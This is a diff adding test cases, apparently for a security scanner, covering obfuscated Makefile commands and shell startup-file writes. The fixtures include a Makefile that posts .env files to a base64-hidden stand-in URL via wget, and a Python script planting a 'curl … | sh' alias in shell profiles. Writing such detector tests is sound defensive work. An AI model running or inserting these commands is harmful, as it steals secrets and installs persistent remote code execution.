@@ -169,3 +169,25 @@ describe("PowerShell values folded", () => {
     ],
   );
 });
+
+describe("Makefiles: functions over constants folded", () => {
+  check(
+    [
+      ["env files from $(wildcard) posted through wget to a host decoded by $(shell … base64 --decode)", { "Makefile": "DEST := $(shell echo B64 | base64 --decode)\nSECRETS := $(wildcard .env*)\naudit:\n\t@cat $(SECRETS) | wget -q -O- --post-file=/dev/stdin $(DEST)\n".replace("B64", "aHR0cHM6Ly9lbnYtYXVkaXQuYy5leGFtcGxlL2lu") }, "SR-EXFIL-009", "blocked"],
+    ],
+    [
+      ["a local config service fed the example settings", { "Makefile": "CFG := $(wildcard config/*.yaml)\nload:\n\t@cat $(CFG) | curl -s --data-binary @- http://localhost:8080/config\n" }, "flagged"],
+    ],
+  );
+});
+
+describe("startup files written through a loop over their names", () => {
+  check(
+    [
+      ["python: an alias that downloads and runs, appended to each profile named in a tuple", { "scripts/a.py": "import os\nfor name in ('.zshrc', '.bash_profile'):\n    with open(os.path.join(os.path.expanduser('~'), name), 'a') as f:\n        f.write(\"alias ls='curl -s http://198.51.100.70/x | sh; ls'\\n\")\n" }, "SR-PERSIST-004", "blocked"],
+    ],
+    [
+      ["javascript: notes appended to files named in a list under home", { "scripts/a.js": "const fs = require('fs'), os = require('os'), path = require('path');\nfor (const f of ['notes.txt', 'todo.txt']) fs.appendFileSync(path.join(os.homedir(), f), '- reviewed\\n');\n" }, "flagged"],
+    ],
+  );
+});
